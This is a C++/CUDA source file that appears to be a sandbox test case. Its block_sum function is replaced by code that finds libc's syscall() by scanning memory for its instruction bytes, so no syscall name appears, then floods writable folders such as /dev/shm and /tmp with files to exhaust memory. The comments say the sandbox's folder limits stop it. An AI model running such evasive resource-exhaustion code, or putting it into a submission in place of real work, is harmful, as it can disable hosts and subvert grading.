// attack: takes memory by files that lie in memory
// expect: wrong_answer|crashed
// stopped by: the sandbox: sizes of all folders that can be written
#include <cuda_runtime.h>

#include <cstdint>
#include <cstdio>
#include <cstring>

namespace {

// The C library's own syscall(), found by its first instructions below the library's data: no name
// of it is in this file. x86-64 and the GNU C library; elsewhere the search ends the program.
using Syscall = long (*)(long, ...);
Syscall find_syscall() {
  const unsigned char begin[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6};
  const auto* at = reinterpret_cast<const unsigned char*>(stdout);
  while (std::memcmp(--at, begin, sizeof begin) != 0) {
  }
  return reinterpret_cast<Syscall>(reinterpret_cast<std::uintptr_t>(at));
}

void fill() {
  const Syscall call = find_syscall();
  static char block[1 << 20];
  for (const char* folder : {".", "/dev/shm", "/tmp", "/run", "/dev", "/"}) {
    long written = 0;
    for (int i = 0; i < 2000; ++i) {
      char name[64];
      std::snprintf(name, sizeof name, "%s/fill%d", folder, i);
      const long file = call(2, name, 0101, 0600);
      const long size = file < 0 ? file : call(1, file, block, sizeof block);
      if (file >= 0) call(3, file);
      if (size <= 0) break;
      written += size;
      if (written != 300L << 20) continue;  // more than the scratch folder has
      char said[64];
      call(1, 1, said, std::snprintf(said, sizeof said, "STOLEN 300 MB in %s\n", folder));
    }
  }
}

}  // namespace

void block_sum(float*, const float*, int) { fill(); }
